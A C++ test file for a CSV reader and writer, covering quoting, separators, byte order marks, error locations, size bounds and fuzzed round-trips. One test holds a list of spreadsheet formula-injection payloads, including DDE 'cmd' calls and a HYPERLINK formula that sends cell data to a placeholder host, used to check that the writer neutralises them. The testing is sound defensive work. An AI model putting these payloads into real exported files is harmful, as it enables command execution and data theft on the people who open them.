#include "client/cases/csv.h"

#include <doctest/doctest.h>

#include <random>

#include "client/cases/csv_write.h"

namespace chapar::testing {
namespace {

using namespace client;
using Rows = std::vector<std::vector<std::string>>;

struct Table {
    Rows rows;                         // those without a problem
    std::vector<CsvProblem> problems;  // of rows, and the one that ended the reading
    char separator = 0;
};

// `step`: how many bytes are given at a time.
Table read(std::string_view text, std::size_t step = 1, CsvBounds bounds = {}) {
    CsvReader reader(bounds);
    Table out;
    while (true) {
        CsvNext next = reader.next();
        if (auto* row = std::get_if<CsvRow>(&next)) {
            if (row->problem) {
                out.problems.push_back(*row->problem);
            } else {
                out.rows.push_back(std::move(row->cells));
            }
        } else if (std::holds_alternative<CsvNeedsBytes>(next)) {
            if (text.empty()) {
                reader.end();
            } else {
                reader.give(text.substr(0, step));
                text.remove_prefix(std::min(step, text.size()));
            }
        } else {
            if (auto* problem = std::get_if<CsvProblem>(&next)) out.problems.push_back(*problem);
            out.separator = reader.separator();
            return out;
        }
    }
}

std::vector<CsvProblem> problems(std::string_view text, CsvBounds bounds = {}) {
    return read(text, 7, bounds).problems;
}

}  // namespace

// Files of github.com/max-mapper/csv-spectrum (BSD-2-Clause), and what it says they hold.
TEST_CASE("the files of csv-spectrum are read as it says, however they are cut") {
    struct Sample {
        std::string_view name, text;
        Rows rows;
    };
    const Sample samples[] = {
        {"comma_in_quotes",
         "first,last,address,city,zip\nJohn,Doe,120 any st.,\"Anytown, WW\",08123\n",
         {{"first", "last", "address", "city", "zip"},
          {"John", "Doe", "120 any st.", "Anytown, WW", "08123"}}},
        {"empty", "a,b,c\n1,\"\",\"\"\n2,3,4\n", {{"a", "b", "c"}, {"1", "", ""}, {"2", "3", "4"}}},
        {"empty_crlf",
         "a,b,c\r\n1,\"\",\"\"\r\n2,3,4\r\n",
         {{"a", "b", "c"}, {"1", "", ""}, {"2", "3", "4"}}},
        {"escaped_quotes",
         "a,b\n1,\"ha \"\"ha\"\" ha\"\n3,4\n",
         {{"a", "b"}, {"1", "ha \"ha\" ha"}, {"3", "4"}}},
        {"json",
         "key,val\n1,\"{\"\"type\"\": \"\"Point\"\", \"\"coordinates\"\": [102.0, 0.5]}\"\n",
         {{"key", "val"}, {"1", R"({"type": "Point", "coordinates": [102.0, 0.5]})"}}},
        {"newlines",
         "a,b,c\n1,2,3\n\"Once upon \na time\",5,6\n7,8,9\n",
         {{"a", "b", "c"}, {"1", "2", "3"}, {"Once upon \na time", "5", "6"}, {"7", "8", "9"}}},
        {"newlines_crlf",
         "a,b,c\r\n1,2,3\r\n\"Once upon \r\na time\",5,6\r\n7,8,9\r\n",
         {{"a", "b", "c"}, {"1", "2", "3"}, {"Once upon \r\na time", "5", "6"}, {"7", "8", "9"}}},
        {"quotes_and_newlines",
         "a,b\n1,\"ha \n\"\"ha\"\" \nha\"\n3,4\n",
         {{"a", "b"}, {"1", "ha \n\"ha\" \nha"}, {"3", "4"}}},
        {"simple", "a,b,c\n1,2,3\n", {{"a", "b", "c"}, {"1", "2", "3"}}},
        {"simple_crlf", "a,b,c\r\n1,2,3\r\n", {{"a", "b", "c"}, {"1", "2", "3"}}},
        {"utf8", "a,b,c\n1,2,3\n4,5,ʤ", {{"a", "b", "c"}, {"1", "2", "3"}, {"4", "5", "ʤ"}}},
    };
    for (const Sample& sample : samples) {
        for (const std::size_t step : {1U, 2U, 3U, 1000U}) {
            CAPTURE(sample.name);
            CAPTURE(step);
            const Table table = read(sample.text, step);
            CHECK(table.rows == sample.rows);
            CHECK(table.problems.empty());
        }
    }
}

// RFC 4180, section 2, rules 1 to 7.
TEST_CASE("the examples of RFC 4180 are read as it says") {
    CHECK(read("aaa,bbb,ccc\r\nzzz,yyy,xxx").rows ==
          Rows{{"aaa", "bbb", "ccc"}, {"zzz", "yyy", "xxx"}});
    CHECK(read("\"aaa\",\"b\r\nbb\",\"ccc\"\r\nzzz,yyy,xxx\r\n").rows ==
          Rows{{"aaa", "b\r\nbb", "ccc"}, {"zzz", "yyy", "xxx"}});
    CHECK(read("\"aaa\",\"b\"\"bb\",\"ccc\"").rows == Rows{{"aaa", "b\"bb", "ccc"}});
    CHECK(read("a, b ,c").rows == Rows{{"a", " b ", "c"}});  // blanks are part of a cell
}

TEST_CASE("the separator is the one of the header, quoted ones not counted") {
    CHECK(read("a;b;c\n1;2,5;3\n").rows == Rows{{"a", "b", "c"}, {"1", "2,5", "3"}});
    CHECK(read("\"x,y,z\";b\n1;2\n").rows == Rows{{"x,y,z", "b"}, {"1", "2"}});
    CHECK(read("mass, kg;place;date\n1;2;3\n").separator == ';');
    CHECK(read("one\n1\n").rows == Rows{{"one"}, {"1"}});
    CHECK(problems("a,b;c\n") == std::vector<CsvProblem>{{CsvFault::SeparatorUnclear, 1, 0, 1}});
}

TEST_CASE("a byte order mark is no part of the first name, and UTF-16 is told as such") {
    CHECK(read("\xEF\xBB\xBF"
               "a,b\n1,2\n")
              .rows == Rows{{"a", "b"}, {"1", "2"}});
    CHECK(read("\xEF\xBB\xBF"
               "\"a\",b\n1,2\n")
              .rows.front() == std::vector<std::string>{"a", "b"});
    CHECK(problems(std::string_view("\xFF\xFE"
                                    "a\0,\0",
                                    6)) == std::vector<CsvProblem>{{CsvFault::Utf16, 1, 0, 1}});
    CHECK(read("").rows.empty());
    CHECK(read("\xEF\xBB\xBF").rows.empty());
}

// Fails if numbers of rows, columns or lines are those of another cell than the one at fault.
TEST_CASE("a misplaced quote ends the reading, and the place is that of the cell") {
    const std::string head = "a,b,c\n\"x\ny\",2,3\n\n";  // row 2 on lines 2 and 3, row 3 empty
    struct Row {
        std::string_view rest;
        CsvProblem problem;
    };
    const Row rows[] = {
        {"1,5\" pipe,3\n4,5,6\n", {CsvFault::QuoteInside, 4, 2, 5}},
        {"1,2,\"5\" pipe\n4,5,6\n", {CsvFault::TextAfterQuote, 4, 3, 5}},
        {"1,\"open\n4,5,6\n", {CsvFault::QuoteOpen, 4, 2, 5}},
        {"1,2\r,3\n4,5,6\n", {CsvFault::CarriageReturn, 4, 2, 5}},
        {"1,2,3\r", {CsvFault::CarriageReturn, 4, 3, 5}},
    };
    for (const Row& row : rows) {
        CAPTURE(row.rest);
        const Table table = read(head + std::string(row.rest));
        CHECK(table.rows == Rows{{"a", "b", "c"}, {"x\ny", "2", "3"}});
        CHECK(table.problems == std::vector<CsvProblem>{row.problem});
    }
    CHECK(sentence(rows[0].problem) ==
          "row 4, column B (line 5): a quote stands inside a cell that does not begin with one");
}

TEST_CASE("a row that is too short, too long or not UTF-8 is told, and the others are read") {
    const Table table = read("a;b\n1;2\n1\n1;2;3\n\xEA\xE3;2\n1;\xED\xA0\x80\n3;4\n");
    CHECK(table.rows == Rows{{"a", "b"}, {"1", "2"}, {"3", "4"}});
    CHECK(table.problems == std::vector<CsvProblem>{{CsvFault::ColumnsDiffer, 3, 0, 3},
                                                    {CsvFault::ColumnsDiffer, 4, 0, 4},
                                                    {CsvFault::NotUtf8, 5, 1, 5},
                                                    {CsvFault::NotUtf8, 6, 2, 6}});
    CHECK(problems(std::string_view("a\n\0\n", 4)) ==
          std::vector<CsvProblem>{{CsvFault::NotUtf8, 2, 1, 2}});
}

TEST_CASE("an empty line is no row, but a row of empty cells is one") {
    const Table table = read("\r\na,b\r\n\r\n,\r\n\n\"\",1\n");
    CHECK(table.rows == Rows{{"a", "b"}, {"", ""}, {"", "1"}});
    CHECK(read("one\n\"\"\n").rows == Rows{{"one"}, {""}});
}

// Fails if a bound is looked at only when the row is complete: then one open quote takes the file.
TEST_CASE("rows, their bytes and their columns are bounded") {
    const CsvBounds bounds{10, 3, 3};
    CHECK(problems("a,b,c\n12345,7,9\n", bounds).empty());
    CHECK(problems("a,b,c\n12345,7,90\n", bounds) ==
          std::vector<CsvProblem>{{CsvFault::RowTooLong, 2, 0, 2}});
    CHECK(problems("a,b,c\n\"\n\n\n\n\n\n\n\n\n\n\n", bounds) ==
          std::vector<CsvProblem>{{CsvFault::RowTooLong, 2, 0, 2}});
    CHECK(problems("a,b,c,d\n", bounds) ==
          std::vector<CsvProblem>{{CsvFault::TooManyColumns, 1, 3, 1}});
    CHECK(problems("a\n1\n2\n", bounds).empty());
    CHECK(problems("a\n1\n2\n3\n", bounds) ==
          std::vector<CsvProblem>{{CsvFault::TooManyRows, 4, 0, 4}});
    CHECK(problems(std::string(11, 'a'), bounds) ==
          std::vector<CsvProblem>{{CsvFault::RowTooLong, 1, 0, 1}});
}

TEST_CASE("columns are named as spreadsheets name them") {
    CHECK(column_letters(1) == "A");
    CHECK(column_letters(26) == "Z");
    CHECK(column_letters(27) == "AA");
    CHECK(column_letters(702) == "ZZ");
    CHECK(column_letters(703) == "AAA");
}

// The list of OWASP, "CSV Injection", and the payloads of its page and of PayloadsAllTheThings.
TEST_CASE("a text that a spreadsheet would run has an apostrophe before it") {
    const std::string_view active[] = {"=1+1",
                                       "+1",
                                       "-1",
                                       "@SUM(1)",
                                       "\t=1",
                                       "\r=1",
                                       "\n=1",
                                       "=cmd|'/c calc'!A0",
                                       "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
                                       "@SUM(1+9)*cmd|' /C calc'!A0",
                                       " =1+1",
                                       "\xC2\xA0=1",
                                       "＝1+1",
                                       "＋1",
                                       "－1",
                                       "＠x",
                                       "'=1"};
    for (const std::string_view text : active) {
        CAPTURE(text);
        CHECK(guarded(text).starts_with("'"));
        CHECK(unguarded(guarded(text)) == text);
    }
    for (const std::string_view text :
         {"heroin", "", "'", "'24", "12.450", "a=b", "5-6", "кг", "۱۲"}) {
        CAPTURE(text);
        CHECK(guarded(text) == text);
    }
}

// Fails if only the start of the cell is looked at: a program that expects the other separator
// splits there.
TEST_CASE("what the other separator would make the start of a cell is guarded too") {
    CHECK(guarded("seal 7;=1+1") == "seal 7;'=1+1");
    CHECK(guarded("a,+992 1, -x") == "a,'+992 1,' -x");
    CHECK(guarded("a\n=1") == "a\n'=1");
    CHECK(unguarded(guarded("a\r\n\t;-1")) == "a\r\n\t;-1");
}

TEST_CASE("numbers stay numbers, with the decimal mark of the reader's spreadsheet") {
    const auto degrees = PlainNumber::of("-68.61").value();
    CsvWriter points(CsvLocale::Points, CsvMark::None);
    points.number(degrees);
    points.text("-68.61");
    points.end_row();
    CHECK(points.take() == "-68.61,'-68.61\r\n");
    CsvWriter commas(CsvLocale::Commas);
    commas.number(degrees);
    commas.text("a");
    commas.end_row();
    CHECK(commas.take() == "\xEF\xBB\xBF\"-68,61\";a\r\n");
    CHECK(commas.take().empty());
}

TEST_CASE("a row of one empty cell is no empty line, and blanks at an end are kept") {
    CsvWriter writer(CsvLocale::Points, CsvMark::None);
    writer.text("");
    writer.end_row();
    writer.text(" a ");
    writer.end_row();
    CHECK(writer.take() == "\"\"\r\n\" a \"\r\n");
}

// Seeded. Fails if a state is kept only within one piece of bytes.
TEST_CASE("hostile bytes are read the same however they are cut, within the bounds") {
    std::mt19937 random(7111);
    constexpr std::string_view kBytes("\"\",;\n\n\r\nab\xEF\xBB\xBF\xFF\xD9\xA1\0", 17);
    const CsvBounds bounds{24, 4, 6};
    for (int round = 0; round < 5000; ++round) {
        std::string text;
        for (auto left = random() % 60; left > 0; --left) text += kBytes[random() % kBytes.size()];
        const Table whole = read(text, 1000, bounds);
        const Table cut = read(text, 1 + random() % 5, bounds);
        REQUIRE(cut.rows == whole.rows);
        REQUIRE(cut.problems == whole.problems);
        REQUIRE(cut.separator == whole.separator);
        REQUIRE(whole.rows.size() <= bounds.rows);
        for (const auto& row : whole.rows) REQUIRE(row.size() <= bounds.columns);
    }
}

// Seeded: every text of characters that mean something here comes back as it was.
TEST_CASE("what is written is read again as it was") {
    std::mt19937 random(4180);
    constexpr std::string_view kSigns = "',;\"\n\r\t =+-@ab";
    for (const CsvLocale locale : {CsvLocale::Points, CsvLocale::Commas}) {
        for (int round = 0; round < 500; ++round) {
            const std::size_t columns = 2 + random() % 3;  // one column cannot show its separator
            Rows rows;
            CsvWriter writer(locale);
            for (std::size_t i = 0; i < columns; ++i) writer.text("head");
            writer.end_row();
            for (int row = 0; row < 4; ++row) {
                rows.emplace_back();
                for (std::size_t column = 0; column < columns; ++column) {
                    std::string text;
                    for (auto left = random() % 8; left > 0; --left) {
                        text += kSigns[random() % kSigns.size()];
                    }
                    writer.text(text);
                    rows.back().push_back(std::move(text));
                }
                writer.end_row();
            }
            Table table = read(writer.take(), 5);
            REQUIRE(table.problems.empty());
            REQUIRE(table.rows.size() == rows.size() + 1);
            table.rows.erase(table.rows.begin());
            for (auto& row : table.rows) {
                for (std::string& cell : row) cell = unguarded(cell);
            }
            REQUIRE(table.rows == rows);
        }
    }
}

}  // namespace chapar::testing
